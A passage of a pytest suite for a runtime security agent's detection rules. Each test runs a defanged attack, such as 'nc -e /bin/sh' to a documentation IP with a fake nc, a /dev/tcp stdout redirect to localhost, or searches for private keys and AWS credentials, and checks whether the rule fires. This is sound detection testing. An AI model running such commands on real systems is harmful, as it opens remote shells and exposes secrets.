    assert run.saw("open", fd__name="/etc/passwd") or run.saw("openat", fd__name="/etc/passwd")
    check(run, "Directory traversal monitored file read", False)


@pytest.mark.parametrize("redirect, fires", [(">", True), (">>", False)],
                         ids=["truncate", "append"])
def test_real_clear_log_activities(tmp_path, redirect, fires):
    log = tmp_path / "syslog"
    run = agent(tmp_path, ["sh", "-c", f": {redirect} {log}"])
    check(run, "Clear Log Activities", fires)
    assert run.saw("open", fd__name=str(log)) or run.saw("openat", fd__name=str(log))


@pytest.mark.parametrize("program, fires", [("shred", True), ("rm", False)])
def test_real_remove_bulk_data_from_disk(tmp_path, program, fires):
    victim = tmp_path / "data.db"
    victim.write_bytes(b"x" * 4096)
    run = agent(tmp_path, [program, "-u", str(victim)] if program == "shred" else [program, victim])
    assert not victim.exists()
    check(run, "Remove Bulk Data from Disk", fires)
    assert run.saw("execve", evt__dir="<", proc__name=program)


@pytest.mark.parametrize("maker", ["static", "ln"])
@pytest.mark.parametrize("target, fires", [("/etc/shadow", True), ("/etc/hostname", False)])
def test_real_create_symlink_over_sensitive_files(tmp_path, ops, maker, target, fires):
    link = tmp_path / "link"
    argv = [ops, "symlink", target, link] if maker == "static" else ["ln", "-s", target, link]
    run = agent(tmp_path, argv)
    assert link.is_symlink()
    check(run, "Create Symlink Over Sensitive Files", fires)
    if maker == "static":
        assert run.saw("symlink", evt__arg__target=target)
    else:
        assert run.saw("execve", evt__dir="<", proc__name="ln")


@pytest.mark.parametrize("maker", ["static", "ln"])
@pytest.mark.parametrize("sensitive, fires", [(True, True), (False, False)],
                         ids=["shadow", "own-file"])
def test_real_create_hardlink_over_sensitive_files(tmp_path, ops, maker, sensitive, fires):
    own = tmp_path / "own"
    own.write_text("mine")
    # into a directory that does not exist: the attempt is the event, nothing is linked
    old, new = ("/etc/shadow" if sensitive else str(own)), tmp_path / "absent" / "link"
    run = agent(tmp_path, [ops, "link", old, new] if maker == "static" else ["ln", old, new])
    assert not new.exists()
    check(run, "Create Hardlink Over Sensitive Files", fires)
    if maker == "static":
        assert run.saw("link", evt__arg__oldpath=old, evt__res="ENOENT")
    else:
        assert run.saw("execve", evt__dir="<", proc__name="ln")


@pytest.mark.parametrize("writer, fires", [("sh", True), ("update-ca-certificates", False)])
def test_real_write_below_etc(tmp_path, writer, fires):
    # opened for appending, nothing written: /etc/passwd is left as it was
    program = "sh" if writer == "sh" else fake(tmp_path, writer, "/bin/sh")
    before = Path("/etc/passwd").read_bytes()
    run = agent(tmp_path, [program, "-c", ": >> /etc/passwd"])
    assert Path("/etc/passwd").read_bytes() == before
    check(run, "Write below etc", fires)
    assert run.saw("open", fd__name="/etc/passwd", proc__name=writer)


@pytest.mark.parametrize("writer, fires", [("sh", True), ("apt-get", False)])
def test_real_write_below_binary_dir(tmp_path, writer, fires):
    program = "sh" if writer == "sh" else fake(tmp_path, writer, "/bin/sh")
    dropped = f"/usr/bin/preload-test-{uuid.uuid4().hex[:12]}"
    try:
        run = agent(tmp_path, [program, "-c", f": >> {dropped}"])
    finally:
        Path(dropped).unlink(missing_ok=True)
    check(run, "Write below binary dir", fires)
    assert run.saw("open", fd__name=dropped, proc__name=writer)


@pytest.mark.parametrize("remover", ["static", "rm"])
@pytest.mark.parametrize("below_bin, fires", [(True, True), (False, False)],
                         ids=["usr-bin", "tmp"])
def test_real_modify_binary_dirs(tmp_path, ops, remover, below_bin, fires):
    # a file that is not there: the attempt is the event, nothing is removed
    absent = (f"/usr/bin/preload-test-absent-{uuid.uuid4().hex[:12]}" if below_bin
              else str(tmp_path / "absent"))
    run = agent(tmp_path, [ops, "unlink", absent] if remover == "static" else ["rm", absent])
    check(run, "Modify binary dirs", fires)
    if remover == "static":
        assert run.saw("unlink", evt__arg__path=absent, evt__res="ENOENT")
    else:
        assert run.saw("execve", evt__dir="<", proc__name="rm")


TAMPER_PY = """
import os, sys
try:
    os.close(os.open("/etc/ld.so.preload", getattr(os, sys.argv[1])))
except OSError:
    pass
"""


@pytest.mark.parametrize("flag, fires", [("O_WRONLY", True), ("O_RDONLY", False)])
def test_real_tamper_with_ld_so_preload(tmp_path, flag, fires):
    # opened without O_CREAT or O_TRUNC, nothing written: the file is left as it was (absent,
    # usually: the attempt is the event)
    run = agent(tmp_path, [sys.executable, "-c", TAMPER_PY, flag])
    check(run, "Tamper with ld.so.preload", fires)
    assert [e for e in run.events if e.get("fd.name") == "/etc/ld.so.preload"
            and e["evt.type"] in ("open", "openat")]


def test_real_exec_with_agent_hook_removed(tmp_path):
    run = agent(tmp_path, ["sh", "-c", "env -u LD_PRELOAD /bin/true; true"])
    assert run.saw("execve", evt__dir=">", evt__arg__filename="/bin/true")
    check(run, "Exec with agent hook removed", True, evt__arg__filename="/bin/true")
    assert run.saw("execve", evt__dir="<", proc__name="true")  # put back: the program is watched


def test_real_exec_with_the_hook_kept_is_not_tampering(tmp_path):
    run = agent(tmp_path, ["sh", "-c", "env /bin/true; true"])
    assert run.saw("execve", evt__dir="<", proc__name="true")
    check(run, "Exec with agent hook removed", False)


@pytest.mark.parametrize("name, fires", [("release_agent", True), ("release_agent.bak", False)])
def test_real_detect_release_agent_file_container_escapes(tmp_path, name, fires):
    # a file of that name written where it does no harm; the cgroup v1 file needs CAP_SYS_ADMIN
    path = tmp_path / name
    run = agent(tmp_path, ["sh", "-c", f"echo /payload > {path}"])
    check(run, "Detect release_agent File Container Escapes", fires)
    assert run.saw("open", fd__name=str(path))


@pytest.mark.parametrize("mode, fires", [("4755", True), ("2755", True), ("104755", True),
                                         ("755", False)])
def test_real_set_setuid_or_setgid_bit(tmp_path, ops, mode, fires):
    target = tmp_path / "program"
    target.write_text("")
    run = agent(tmp_path, [ops, "chmod", target, mode])
    assert bool(target.stat().st_mode & 0o6000) is fires  # the kernel did set it
    check(run, "Set Setuid or Setgid bit", fires)
    assert run.saw("chmod", evt__arg__filename=str(target), evt__arg__mode=int(mode, 8))


@pytest.mark.parametrize("mode, fires", [("u+s", True), ("2755", True), ("755", False),
                                         ("g-s", False)])
def test_real_chmod_command_setting_setuid_or_setgid_bit(tmp_path, mode, fires):
    target = tmp_path / "program"
    target.write_text("")
    run = agent(tmp_path, ["chmod", mode, target])
    assert bool(target.stat().st_mode & 0o6000) is fires
    check(run, "Set Setuid or Setgid bit", fires)
    assert run.saw("execve", evt__dir="<", proc__name="chmod")


# processes

@pytest.mark.parametrize("parent, fires", [("nginx", True), ("myapp", False)])
def test_real_run_shell_untrusted(tmp_path, parent, fires):
    app = fake(tmp_path, parent, "/bin/sh")
    run = agent(tmp_path, [app, "-c", "sh -c true; true"])
    check(run, "Run shell untrusted", fires, proc__name="sh", proc__pname=parent)
    assert run.saw("execve", evt__dir="<", proc__name="sh", proc__pname=parent)


def test_real_terminal_shell_in_container(tmp_path):
    run = agent_on_terminal(tmp_path, ["sh", "-c", "sleep 1; true"])
    assert run.returncode == 0, run
    [alert] = run.fired("Terminal shell in container", proc__name="sh")
    assert alert["output_fields"]["proc.tty"] not in (None, 0)


def test_real_shell_without_a_terminal_is_not_a_terminal_shell(tmp_path):
    run = agent(tmp_path, ["sh", "-c", "sleep 1; true"])
    assert run.saw("execve", evt__dir="<", proc__name="sh")
    check(run, "Terminal shell in container", False)


@pytest.mark.parametrize("parent, fires", [("sshd", True), ("worker", False)])
def test_real_system_user_interactive(shared_dir, parent, fires):
    # uid 1 (daemon, a system user) under an ssh session, or under a plain worker
    need("setpriv", "util-linux")
    tmp = shared_dir
    session = fake(tmp, parent, "/bin/sh")
    run = agent(tmp, [session, "-c", "setpriv --reuid=1 --regid=1 --clear-groups /bin/true; true"])
    check(run, "System user interactive", fires, proc__name="true")
    assert run.saw("execve", evt__dir="<", proc__name="true", user__uid=1)


@pytest.mark.parametrize("args, fires", [("-e /bin/sh 198.51.100.1 4444", True),
                                         ("-z 198.51.100.1 4444", False)],
                         ids=["exec", "scan"])
def test_real_netcat_remote_code_execution_in_container(tmp_path, args, fires):
    fake(tmp_path, "nc")
    run = agent(tmp_path, ["sh", "-c", f"nc {args}; true"], path=tmp_path / "bin")
    check(run, "Netcat Remote Code Execution in Container", fires)
    assert run.saw("execve", evt__dir="<", proc__name="nc")


@pytest.mark.parametrize("pattern, fires", [("BEGIN RSA PRIVATE", True),
                                            ("BEGIN CERTIFICATE", False)])
def test_real_search_private_keys_or_passwords(tmp_path, pattern, fires):
    data = tmp_path / "data"
    data.mkdir()
    run = agent(tmp_path, ["grep", "-r", pattern, data])
    check(run, "Search Private Keys or Passwords", fires)
    assert run.saw("execve", evt__dir="<", proc__name="grep")


@pytest.mark.parametrize("target, fires", [(".aws/credentials", True), (".aws/config", False)])
def test_real_find_aws_credentials(tmp_path, target, fires):
    data = tmp_path / "data"
    data.mkdir()
    run = agent(tmp_path, ["find", data, "-path", f"*/{target}"])
    check(run, "Find AWS Credentials", fires)
    assert run.saw("execve", evt__dir="<", proc__name="find")


@pytest.mark.parametrize("request_, fires", [("attach", True), ("detach", False)])
def test_real_ptrace_attached_to_process(tmp_path, ops, request_, fires):
    run = agent(tmp_path, [ops, request_])
    check(run, "PTRACE attached to process", fires)
    assert run.saw("ptrace", evt__arg__request="PTRACE_" + request_.upper())


@pytest.mark.parametrize("request_, fires", [("traceme", True), ("attach", False)])
def test_real_ptrace_anti_debug_attempt(tmp_path, ops, request_, fires):
    run = agent(tmp_path, [ops, request_])
    check(run, "PTRACE anti-debug attempt", fires)
    assert run.saw("ptrace", evt__arg__request="PTRACE_" + request_.upper())


def test_real_execution_from_dev_shm(tmp_path):
    dropped = f"/dev/shm/preload-test-{uuid.uuid4().hex[:12]}"
    shutil.copy("/bin/true", dropped)
    try:
        run = agent(tmp_path, [dropped])
    finally:
        os.unlink(dropped)
    assert run.returncode == 0, run
    check(run, "Execution from /dev/shm", True, proc__exepath=dropped)


def test_real_program_run_in_dev_shm_but_not_from_it_is_not_execution_from_dev_shm(tmp_path):
    run = agent(tmp_path, ["/bin/true"], cwd="/dev/shm")
    assert run.saw("execve", evt__dir="<", proc__name="true", proc__cwd="/dev/shm")
    check(run, "Execution from /dev/shm", False)


@pytest.mark.parametrize("dropped, fires", [(True, True), (False, False)],
                         ids=["copied-to-tmp", "image-binary"])
def test_real_drop_and_execute_new_binary_in_container(tmp_path, dropped, fires):
    directory = tempfile.mkdtemp(prefix="preload-drop-", dir="/tmp")
    try:
        program = shutil.copy("/bin/true", os.path.join(directory, "kworker")) if dropped \
            else "/bin/true"
        run = agent(tmp_path, [program])
    finally:
        shutil.rmtree(directory)
    check(run, "Drop and execute new binary in container", fires)
    assert run.saw("execve", evt__dir="<", proc__exepath=os.path.realpath(program))


@pytest.mark.parametrize("how, fires", [("memfd-exec", True), ("exec", False)])
def test_real_fileless_execution_via_memfd_create(tmp_path, ops, how, fires):
    run = agent(tmp_path, [ops, how, "/bin/true"])
    assert run.returncode == 0, run
    check(run, "Fileless execution via memfd_create", fires)
    started = [e for e in run.saw("execve", evt__dir="<") if e["preload.argv"] == ["/bin/true"]]
    assert started, run.events


@pytest.mark.parametrize("call, fires", [("init_module", True), ("memfd", False)])
def test_real_linux_kernel_module_injection_detected(tmp_path, ops, call, fires):
    run = agent(tmp_path, [ops, call])
    check(run, "Linux Kernel Module Injection Detected", fires)
    assert run.saw(call if call == "init_module" else "memfd_create")


@pytest.mark.parametrize("loader, args, fires", [("insmod", ["/tmp/rootkit.ko"], True),
                                                 ("modprobe", ["-r", "dummy"], False)])
def test_real_module_loader_started(tmp_path, loader, args, fires):
    # stand-ins named insmod and modprobe: nothing is loaded or removed
    run = agent(tmp_path, [fake(tmp_path, loader), *args])
    check(run, "Linux Kernel Module Injection Detected", fires)
    assert run.saw("execve", evt__dir="<", proc__name=loader)


def test_real_launch_package_management_process_in_container(tmp_path):
    apt_get = fake(tmp_path, "apt-get")
    run = agent(tmp_path, [apt_get, "install", "-y", "nmap"])
    check(run, "Launch Package Management Process in Container", True, proc__name="apt-get")


def test_real_package_manager_run_by_package_manager_is_not_launched_anew(tmp_path):
    fake(tmp_path, "apt-get")
    dpkg = fake(tmp_path, "dpkg", "/bin/sh")  # a maintainer script running apt-get
    run = agent(tmp_path, [dpkg, "-c", "apt-get install -y nmap; true"], path=tmp_path / "bin")
    assert run.saw("execve", evt__dir="<", proc__name="apt-get", proc__pname="dpkg")
    check(run, "Launch Package Management Process in Container", False, proc__name="apt-get")


@pytest.mark.parametrize("tool, fires", [("nmap", True), ("socat", True), ("masscan", True),
                                         ("curl", False)])
def test_real_launch_suspicious_network_tool_in_container(tmp_path, tool, fires):
    run = agent(tmp_path, [fake(tmp_path, tool), "198.51.100.0/24"])
    check(run, "Launch Suspicious Network Tool in Container", fires)
    assert run.saw("execve", evt__dir="<", proc__name=tool)


@pytest.mark.parametrize("pool, fires", [("stratum+tcp://pool.example.com:3333", True),
                                         ("https://pool.example.com", False)])
def test_real_detect_crypto_miners_using_the_stratum_protocol(tmp_path, pool, fires):
    run = agent(tmp_path, [fake(tmp_path, "xmrig"), "-o", pool])
    check(run, "Detect crypto miners using the Stratum protocol", fires)
    assert run.saw("execve", evt__dir="<", proc__name="xmrig")


# network

@pytest.fixture
def listener():
    import socket
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    yield server.getsockname()[1]
    server.close()


def test_real_redirect_stdout_to_network_connection_in_container(tmp_path, listener):
    need("bash", "bash")
    run = agent(tmp_path, ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{listener}; "
                                         "exec 1>&3; echo hello"])
    [connect] = run.saw("connect", fd__sport=listener, proc__name="bash")
    assert run.saw("dup2", evt__rawres=1, fd__num=connect["fd.num"], fd__type="ipv4",
                   fd__name=connect["fd.name"])
    check(run, "Redirect STDOUT/STDIN to Network Connection in Container", True,
          fd__name=connect["fd.name"])


def test_real_redirect_stdout_to_a_file_is_no_network_redirect(tmp_path):
    need("bash", "bash")
    run = agent(tmp_path, ["bash", "-c", f"exec 1>{tmp_path / 'out'}; echo hello"])
    assert (tmp_path / "out").read_text() == "hello\n"
    check(run, "Redirect STDOUT/STDIN to Network Connection in Container", False)


@pytest.mark.parametrize("family, fires", [("packet", True), ("inet", False)])
def test_real_packet_socket_created_in_container(tmp_path, ops, family, fires):
    run = agent(tmp_path, [ops, "socket", family])
    check(run, "Packet socket created in container", fires)
    assert run.saw("socket", evt__arg__domain="AF_PACKET" if family == "packet" else "AF_INET")


@pytest.mark.parametrize("port, fires", [(443, True), (22, False)])
def test_real_disallowed_ssh_connection_non_standard_port(tmp_path, connect_py, port, fires):
    ssh = fake(tmp_path, "ssh", sys.executable)
    run = agent(tmp_path, [ssh, connect_py, PUBLIC, port, "listen"], netns=[PUBLIC])
    assert "connected" in run.stdout, run
    check(run, "Disallowed SSH Connection Non Standard Port", fires)
    # a connection made, or under way (connect.py's socket has a timeout: it is non-blocking)
    results = {e["evt.res"] for e in run.saw("connect", fd__sip=PUBLIC, fd__sport=port)}
    assert results and results <= {"SUCCESS", "EINPROGRESS"}, run.events


@pytest.mark.parametrize("port, fires", [(443, True), (80, False)])
def test_real_contact_k8s_api_server_from_container(tmp_path, connect_py, port, fires):
    run = agent(tmp_path, [sys.executable, connect_py, "10.96.0.1", port], netns=["10.96.0.1"])
    check(run, "Contact K8S API Server From Container", fires)
    assert run.saw("connect", fd__sip="10.96.0.1", fd__sport=port)


@pytest.mark.parametrize("address", ["169.254.169.254", "169.254.170.2"])
def test_real_contact_cloud_metadata_service_from_container(tmp_path, connect_py, address):
    # nothing answers in the namespace: the attempt is the event
    run = agent(tmp_path, [sys.executable, connect_py, address, 80], netns=[])
    check(run, "Contact cloud metadata service from container", True)
    assert run.saw("connect", fd__sip=address)


def test_real_allowed_metadata_client_is_not_reported(tmp_path, connect_py):
    cloud_init = fake(tmp_path, "cloud-init", sys.executable)
    run = agent(tmp_path, [cloud_init, connect_py, "169.254.169.254", 80], netns=[])
    assert run.saw("connect", fd__sip="169.254.169.254", proc__name="cloud-init")
    check(run, "Contact cloud metadata service from container", False)


@pytest.mark.parametrize("port, fires", [(3333, True), (3306, False)])
def test_real_detect_outbound_connections_to_common_miner_pool_ports(tmp_path, connect_py, port,
                                                                     fires):
    run = agent(tmp_path, [sys.executable, connect_py, PUBLIC, port], netns=[PUBLIC])
    check(run, "Detect outbound connections to common miner pool ports", fires)
    assert run.saw("connect", fd__sip=PUBLIC, fd__sport=port)
